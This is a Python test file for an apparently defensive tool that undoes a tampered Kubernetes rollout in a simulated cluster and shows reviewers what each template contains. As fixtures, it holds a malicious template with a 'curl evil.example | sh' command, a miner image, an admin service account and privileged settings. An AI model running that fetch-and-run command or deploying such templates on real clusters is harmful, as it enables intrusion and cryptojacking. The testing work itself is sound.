"""Rollouts of a simulated Kubernetes: the template of an earlier revision comes back."""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from audit.tlog.canonical import Json
from hitlportal.demo.servers.kube_api import Request
from hitlportal.demo.servers.kube_cluster import Object
from remediation.domain.errors import TargetUnobservable
from remediation.domain.observation import Observation
from remediation.executors import kubernetes_template as templates
from remediation.executors.base import Settled, Snapshot
from remediation.executors.errors import NotApplied, OutcomeUnknown, RollbackFailed, VerifyFailed
from remediation.executors.kubernetes_rollout import HISTORY, REVISION, UndoRollout
from remediation.executors.run import (
    executor_of,
    run_apply,
    run_observe,
    run_prepare,
    run_rollback,
    run_traces,
    run_verify,
    would_refuse,
)
from remediation.services import host_files
from remediation.services.assessment import observe as observing
from tests.executors.contract import clearance, make_plan
from tests.executors.kube import IMAGE, PLANTED, KubePlace, KubeWorld, roles, tampered

UNDO, REDO = "kubernetes.workload.undo_rollout", "kubernetes.workload.redo_rollout"
TAMPERED = "registry.example/miner:1"
Make = Callable[..., KubeWorld]


@pytest.fixture
def make(tmp_path: Path, kube_place: KubePlace) -> Iterator[Make]:
    made: list[KubeWorld] = []

    def world(action: str = UNDO) -> KubeWorld:
        made.append(KubeWorld(action, tmp_path, kube_place))
        return made[-1]

    yield world
    kube_place.api.before = None
    kube_place.api.cluster.resting = False
    kube_place.api.cluster.unpullable.clear()
    for each in made:
        each.close()


@pytest.fixture
def world(make: Make) -> KubeWorld:
    return make()


def prepared(world: KubeWorld, **parameters: Json) -> Snapshot:
    plan = make_plan(world.action, world.target, {**world.parameters, **parameters})
    seen = run_observe(plan.steps[0], world.targets())
    return run_prepare(clearance(plan), plan.body, 0, world.targets(), seen)


def apply(world: KubeWorld, snapshot: Snapshot) -> None:
    plan = world.plan()
    run_apply(clearance(plan), plan.body, 0, world.targets(), snapshot)


def run(world: KubeWorld) -> None:
    plan, snapshot = world.plan(), prepared(world)
    apply(world, snapshot)
    run_verify(clearance(plan), plan.body, 0, world.targets(), snapshot)


def seen(world: KubeWorld) -> Observation:
    return run_observe(world.step, world.targets())


def image(world: KubeWorld) -> str:
    return str(world.deployment()["spec"]["template"]["spec"]["containers"][0]["image"])


def images(world: KubeWorld) -> set[str]:
    return {pod["spec"]["containers"][0]["image"] for pod in world.pods()}


def set_of(world: KubeWorld, revision: str) -> Object:
    [found] = [
        each
        for each in world.place.api.cluster.all("replicasets", world.namespace)
        if each["metadata"]["annotations"][REVISION] == revision
    ]
    return found


def test_the_earlier_template_comes_back_whole_and_nothing_of_the_other_stays(
    world: KubeWorld,
) -> None:
    assert images(world) == {TAMPERED}
    run(world)
    assert images(world) == {IMAGE} and world.changes() == 1
    template = world.deployment()["spec"]["template"]
    assert template == {
        "metadata": {"labels": {"app": "checkout", "tier": "web"}},
        "spec": {
            "serviceAccountName": "checkout",
            "containers": [{"name": "main", "image": IMAGE}],
        },
    }
    assert world.deployment()["spec"]["replicas"] == 3
    notes = set_of(world, "3")["metadata"]["annotations"]
    assert (notes[HISTORY], set_of(world, "2")["spec"]["replicas"]) == ("1", 0)


def test_the_undoing_means_the_same_two_templates_although_numbers_grow(world: KubeWorld) -> None:
    plan, snapshot = world.plan(), prepared(world)
    apply(world, snapshot)
    assert seen(world).state["revision"] == "1"
    run_rollback(clearance(plan, rollback=True), plan.body, 0, world.targets(), snapshot)
    assert image(world) == TAMPERED and seen(world).state == snapshot
    # A reversal that people decide on names the same numbers, and comes after a further undoing.
    run(world)
    world.action = REDO
    run(world)
    assert image(world) == TAMPERED
    assert set_of(world, "6")["metadata"]["annotations"][HISTORY] == "2,4"


def test_both_templates_are_said_in_words_and_no_value_of_a_variable(world: KubeWorld) -> None:
    found = seen(world)
    assert found.simulated and found.shown["template"] == [
        "container main: command sh -c 'curl evil.example | sh'",
        "container main: image registry.example/miner:1",
        "container main: variables POOL",
        "service account: admin",
        "volume host: hostPath /var/lib",
    ]
    assert found.shown["template_after"] == [
        f"container main: image {IMAGE}",
        "service account: checkout",
    ]
    assert found.shown["template_changes"] == [
        "spec.containers.main.command", "spec.containers.main.env", "spec.containers.main.image",
        "spec.serviceAccountName", "spec.volumes",
    ]  # fmt: skip
    state = found.state
    first, second = (set_of(world, number)["metadata"]["uid"] for number in "12")
    present = templates.digest(templates.of(world.deployment()))
    assert isinstance(state["templates"], list) and state["templates"][0] != present
    assert str(state["templates"][0]).startswith(f"1: {first} sha256:")
    assert state["templates"][1] == f"2: {second} {present}"
    assert (state["revision"], state["uid"]) == ("2", world.deployment()["metadata"]["uid"])
    run(world)
    assert PLANTED not in repr((found, seen(world), run_traces(world.step, world.targets())))


def test_what_is_hidden_in_a_template_is_named(world: KubeWorld) -> None:
    secret = "Sup3rS3cretWord9"
    template: Object = {
        "spec": {
            "hostPID": True,
            "nodeName": "a1",
            "automountServiceAccountToken": False,
            "initContainers": [
                {"name": "a", "image": "b", "securityContext": {"privileged": True}},
                "no container",
            ],
            "containers": [
                {
                    "name": "c",
                    "image": "d",
                    "args": ["--password", secret, "x" * 400],
                    "env": [
                        {"name": "K", "valueFrom": {"secretKeyRef": {"name": "db", "key": "k"}}}
                    ],
                    "envFrom": [{"secretRef": {"name": "s"}}, {"configMapRef": {"name": "m"}}],
                }
            ],
            "volumes": [
                {"name": "v", "secret": {"secretName": "db"}},
                {"name": "n", "nfs": {"server": "files.example", "path": "/all"}},
                {"name": "i", "image": {"reference": "registry.example/tools:1"}},
                {"name": "w", "projected": {"sources": [{"secret": {"name": "q"}}]}},
            ],
        }
    }
    said = [*templates.said(template)]
    assert said[:3] == [
        "service account: default",
        "service account: its token is not mounted",
        "on node a1 alone",
    ]
    assert "first container a: privileged: it can do all that its node can" in said
    assert {
        "volume v: secret db", "volume w: projected, secret q", "volume n: nfs files.example /all",
        "volume i: image registry.example/tools:1", "on node a1 alone",
        "container c: variables K from secret db, all of secret s, all of configMap m",
    } <= {*said}  # fmt: skip
    [long] = [one for one in said if "arguments" in one]
    assert secret not in long and long.endswith("x" * 400)
    changed = copy.deepcopy(template)
    changed["spec"]["containers"][0]["env"] = [{"name": "A", "value": "1"}]
    template["spec"]["containers"][0].pop("env")
    changed["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    other = copy.deepcopy(changed)
    other["spec"]["containers"][0]["env"][0]["value"] = "2"
    assert [*templates.changes(changed, other)] == ["spec.containers.c.env.A.value"]
    assert [*templates.changes(template, changed)] == [
        "spec.containers.c.env",
        "spec.containers.c.securityContext",
    ]
    label = {"metadata": {"labels": {"pod-template-hash": "x", "a": "b"}}}
    spec = {"spec": {"template": {**template, **label}}}
    assert templates.of(spec)["metadata"] == {"labels": {"a": "b"}}
    for odd in ({}, {"spec": 1}, {"spec": {"template": {"metadata": [], "spec": [1]}}}):
        assert [*templates.said(templates.of(odd))] == ["service account: default"]


def test_who_pads_a_template_hides_no_part_of_it(world: KubeWorld) -> None:
    """A02: the lists are bounded, and what reaches the node must not be what is left out."""
    good = templates.of(set_of(world, "1"))
    good["metadata"]["annotations"] = {"a": "b"}
    padded: Object = copy.deepcopy(good)
    padded["metadata"]["annotations"] |= {f"a{number}": "x" for number in range(60)}
    padded["spec"]["hostPID"] = True
    assert {"metadata.annotations", "spec.hostPID"} == templates.changed(good, padded)
    first = [{"name": f"c{number}", "image": "pause"} for number in range(60)]
    set_of(world, "1")["spec"]["template"]["spec"] |= {"hostPID": True, "initContainers": first}
    with pytest.raises(NotApplied, match="more parts than can be shown"):
        prepared(world)


def test_a_command_that_comes_is_shown_whole_or_not_brought_back(world: KubeWorld) -> None:
    """A02: what stands behind a cut is signed unseen."""
    main = set_of(world, "1")["spec"]["template"]["spec"]["containers"][0]
    end = "; curl evil.example | sh"
    main["command"] = ["sh", "-c", "true " * 300 + end]
    shown = seen(world).shown["template_after"]
    assert isinstance(shown, list) and any(str(one).endswith(f"{end}'") for one in shown)
    prepared(world)
    main["command"] = ["sh", "-c", "true " * 500 + end]
    with pytest.raises(NotApplied, match="too long to be shown"):
        prepared(world)


def test_after_another_step_on_the_workload_the_template_is_shown_all_the_same(
    world: KubeWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One observation stands for both steps; the first one's look knows no template that comes."""
    both: tuple[tuple[str, dict[str, Json]], ...] = (
        ("kubernetes.workload.isolate", {"directions": ["Ingress"]}),
        (UNDO, {**world.parameters}),
    )
    plans = [make_plan(action, world.target, held) for action, held in both]
    monkeypatch.setattr(observing, "_known", set[str])
    monkeypatch.setattr(host_files, "targets", world.targets)
    steps = [plan.steps[0] for plan in plans]
    found = observing.observe(steps).observations[steps[0].target.locator]
    assert found is not None and found.shown["template_after"] and found.shown["template_changes"]
    assert would_refuse(steps[1], found) == ""
    alone = run_observe(steps[0], world.targets())
    unseen = replace(found, shown=alone.shown)
    assert "was not looked at" in would_refuse(steps[1], unseen)


def test_the_order_of_first_containers_and_hooks_are_said() -> None:
    names = [{"name": "verify"}, {"name": "fetch"}]
    before, after = ({"spec": {"initContainers": held}} for held in (names, names[::-1]))
    assert templates.changed(before, after) == {"spec.initContainers (their order)"}
    hooked: Object = {
        "name": "c",
        "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}},
        "livenessProbe": {"exec": {"command": ["true"]}},
        "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}},
        "ports": [{"containerPort": 1, "hostPort": 22}],
    }
    said = {*templates.said({"spec": {"containers": [hooked]}})}
    assert {
        "container c: postStart runs sh -c id", "container c: livenessProbe runs true",
        "container c: added capabilities SYS_ADMIN", "container c: takes port 22 of its node",
    } <= said  # fmt: skip


# What somebody does to the deployment.


def foreign(world: KubeWorld) -> None:
    set_of(world, "1")["metadata"]["ownerReferences"][0]["uid"] = "another"


def twice(world: KubeWorld) -> None:
    set_of(world, "2")["metadata"]["annotations"][HISTORY] = "1"


def paused(world: KubeWorld) -> None:
    world.deployment()["spec"]["paused"] = True


def removed(world: KubeWorld) -> None:
    world.deployment()["metadata"]["deletionTimestamp"] = "2026-01-01T00:00:00Z"


def third(world: KubeWorld) -> None:
    world.set_template(lambda one: one["metadata"]["labels"].update(tier="other"))


def same(world: KubeWorld) -> None:
    set_of(world, "1")["spec"]["template"] = set_of(world, "2")["spec"]["template"]


def nothing(world: KubeWorld) -> None:
    pass


def stateful(world: KubeWorld) -> None:
    world.controller, world.name = "statefulset", "ledger"


def test_what_must_not_be_brought_back_is_refused(make: Make) -> None:
    cases: tuple[tuple[Callable[[KubeWorld], None], dict[str, Json], str], ...] = (
        (nothing, {"revision": "7"}, "no replica set of this deployment has revision 7"),
        (nothing, {"instead_of": "7"}, "no replica set of this deployment has revision 7"),
        (nothing, {"revision": "2"}, "same template"),
        (nothing, {"revision": "2", "instead_of": "1"}, "not that of revision 1"),
        (foreign, {}, "no replica set of this deployment has revision 1"),
        (twice, {}, "no replica set of this deployment has revision 1"),
        (paused, {}, "paused"),
        (removed, {}, "being removed"),
        (third, {}, "not that of revision 2"),
        (same, {}, "same template"),
        (stateful, {}, "only a deployment"),
    )
    for change, parameters, why in cases:
        world = make()
        change(world)
        with pytest.raises(NotApplied, match=why):
            prepared(world, **parameters)
        assert world.changes() == 0


def test_what_changes_after_people_saw_it_is_not_touched(make: Make) -> None:
    """Also just before the call: the template, the earlier one, and a pause."""

    def earlier(world: KubeWorld) -> None:
        tampered(set_of(world, "1")["spec"]["template"])

    for change in (earlier, paused, third):
        for just_before in (False, True):
            world = make()
            snapshot, done = prepared(world), list[str]()

            def before(
                request: Request,
                world: KubeWorld = world,
                change: Callable[[KubeWorld], None] = change,
                done: list[str] = done,
            ) -> None:
                if request.method == "PATCH" and not done:
                    done.append(request.path)
                    change(world)
                    world.place.api.cluster.touch(world.deployment())

            if just_before:
                world.place.api.before = before
            else:
                change(world)
            with pytest.raises(NotApplied):
                apply(world, snapshot)
            world.place.api.before = None
            assert world.changes() == 0 and image(world) == TAMPERED


def test_a_change_of_the_status_alone_holds_nothing_up(world: KubeWorld) -> None:
    snapshot, done = prepared(world), list[str]()

    def before(request: Request) -> None:
        if request.method == "PATCH" and not done:
            done.append(request.path)
            world.place.api.cluster.touch(world.deployment())

    world.place.api.before = before
    apply(world, snapshot)
    assert done and image(world) == IMAGE and world.changes() == 1


def test_another_deployment_of_the_name_is_left(world: KubeWorld) -> None:
    snapshot = prepared(world)
    world.deployment()["metadata"]["uid"] = "another"
    with pytest.raises(NotApplied):
        apply(world, snapshot)
    assert world.changes() == 0


def test_a_lost_answer_is_settled_by_reading_and_a_repeat_changes_nothing(
    world: KubeWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    snapshot, api = prepared(world), world.place.api
    answer = api.answer

    def lost(request: Request) -> Any:
        found = answer(request)
        if request.method == "PATCH":
            raise ConnectionAbortedError
        return found

    with monkeypatch.context() as patch:
        patch.setattr(api, "answer", lost)
        with pytest.raises(OutcomeUnknown):
            apply(world, snapshot)
    settled = executor_of(world.step).settled_from(world.step, seen(world), snapshot, {})
    assert settled is Settled.APPLIED
    apply(world, snapshot)
    assert world.changes() == 1 and set_of(world, "3")


def test_a_rollout_that_does_not_go_on_is_not_confirmed(
    make: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(UndoRollout, "verify_seconds", 0.0)

    def gone(world: KubeWorld) -> None:
        world.place.api.cluster.unpullable.add(IMAGE)

    def resting(world: KubeWorld) -> None:
        world.place.api.cluster.resting = True

    for change, when, why in (
        (gone, "before", "makes no progress .ProgressDeadlineExceeded"),
        (resting, "before", "not seen by its controller yet"),
        (paused, "after", "paused"),
    ):
        world = make()
        plan, snapshot = world.plan(), prepared(world)
        if when == "before":
            change(world)
        apply(world, snapshot)
        if when == "after":
            change(world)
        with pytest.raises(VerifyFailed, match=why):
            run_verify(clearance(plan), plan.body, 0, world.targets(), snapshot)
        world.place.api.cluster.unpullable.clear()
        world.place.api.cluster.resting = False


def test_a_rollout_that_makes_no_progress_keeps_the_pods_of_before_and_can_be_undone(
    world: KubeWorld,
) -> None:
    """A tampered image that no node can get: the pods are still those of the first template."""
    world.place.api.cluster.unpullable.add("registry.example/away:1")

    def away(template: Object) -> None:
        template["spec"]["containers"][0]["image"] = "registry.example/away:1"

    world.set_template(away)
    assert str(seen(world).shown["rollout"]).startswith("makes no progress")
    assert images(world) == {TAMPERED, "registry.example/away:1"}
    plan = make_plan(UNDO, world.target, {"revision": "1", "instead_of": "3"})
    run_apply(clearance(plan), plan.body, 0, world.targets())
    run_verify(clearance(plan), plan.body, 0, world.targets())
    assert images(world) == {IMAGE}


def test_undoing_never_overwrites_what_somebody_else_set(world: KubeWorld) -> None:
    plan, snapshot = world.plan(), prepared(world)
    apply(world, snapshot)
    world.set_template(lambda one: one["metadata"]["labels"].update(tier="other"))
    with pytest.raises(RollbackFailed, match="somebody else"):
        run_rollback(clearance(plan, rollback=True), plan.body, 0, world.targets(), snapshot)
    assert world.changes() == 1


def test_who_can_set_it_back_is_named_and_pods_are_kept_as_evidence(world: KubeWorld) -> None:
    meta = world.deployment()["metadata"]
    meta["labels"] = {"argocd.argoproj.io/instance": "shop"}
    meta.setdefault("annotations", {})["meta.helm.sh/release-name"] = "shop"
    assert seen(world).shown["owners"] == ["Argo CD shop", "Helm shop"]
    pod = world.pods()[0]["metadata"]["name"]
    world.place.api.cluster.logs[world.namespace, pod, "main"] = "mining\n"
    kept: Any = run_traces(world.step, world.targets())["pods"]
    assert {one["containers"][0]["image"] for one in kept} == {TAMPERED}
    assert "mining\n" in [one["containers"][0]["log"] for one in kept]


def test_with_one_right_less_it_refuses_and_with_these_no_other_deployment_is_reached(
    world: KubeWorld,
) -> None:
    role = world.find("roles", "hitl-operate-rollout")
    assert role is not None and [role["rules"]] == [
        one["rules"] for one in roles("### Rollout undo")
    ]
    [rule] = role["rules"]
    assert rule["verbs"] == ["patch"] and rule["resourceNames"] == ["checkout"]
    rule["verbs"] = []
    with pytest.raises(NotApplied, match="may not"):
        apply(world, prepared(world))
    rule["verbs"] = ["patch"]
    for right in world.place.rules("observe"):
        if {"deployments", "replicasets"} & {*right["resources"]}:
            verbs, right["verbs"] = right["verbs"], []
            with pytest.raises(TargetUnobservable, match="may not"):
                seen(world)
            right["verbs"] = verbs
    body = {"spec": {"replicas": 0}}
    for who, method, path in (
        ("operate", "PATCH", "deployments/other"),
        ("operate", "PUT", "deployments/checkout"),
        ("operate", "PATCH", "replicasets/checkout"),
        ("observe", "PATCH", "deployments/checkout"),
    ):
        at = f"/apis/apps/v1/namespaces/{world.namespace}/{path}"
        asked = Request(
            method, at, {}, world.place.tokens[who], "application/merge-patch+json", body
        )
        assert world.place.api.answer(asked).status == 403, (who, method, path)
    assert world.changes() == 0


def test_a_hostile_answer_changes_nothing(world: KubeWorld) -> None:
    api, answer = world.place.api, world.place.api.answer
    snapshot = prepared(world)
    for spoil in (
        {"template": [PLANTED]}, {"template": {"spec": {"containers": PLANTED, "volumes": 5}}},
        {"template": {"metadata": {"labels": [PLANTED]}, "spec": PLANTED}},
    ):  # fmt: skip

        def hostile(request: Request, spoil: dict[str, Any] = spoil) -> Any:
            found = answer(request)
            body = copy.deepcopy(found.body)
            for each in body.get("items", ()) if isinstance(body, dict) else ():
                if request.path.endswith("/replicasets"):
                    each["spec"] |= spoil
                    each["metadata"]["annotations"] |= {HISTORY: [PLANTED]}
            return type(found)(found.status, body)

        api.answer = hostile  # type: ignore[method-assign]
        try:
            assert PLANTED not in repr(seen(world).state)
            with pytest.raises(NotApplied):
                apply(world, snapshot)
        finally:
            api.answer = answer  # type: ignore[method-assign]
    assert world.changes() == 0


def test_a_status_that_cannot_be_read_is_not_taken_for_a_rollout() -> None:
    from remediation.executors.kubernetes_workload import rollout

    good = {"generation": 1}
    done = {"observedGeneration": 1, "replicas": 1, "updatedReplicas": 1, "availableReplicas": 1}
    for meta, status, said in (
        (good, done, "complete"),
        (good, {**done, "updatedReplicas": 0}, "goes on"),
        ({"generation": "1"}, done, "not seen by its controller yet"),
        (good, {**done, "observedGeneration": []}, "not seen by its controller yet"),
        (good, {**done, "conditions": "no"}, "complete"),
        (good, {**done, "conditions": ["no"]}, "complete"),
        (good, {}, "not seen by its controller yet"),
    ):
        assert rollout({"metadata": meta, "spec": {}, "status": status}) == said
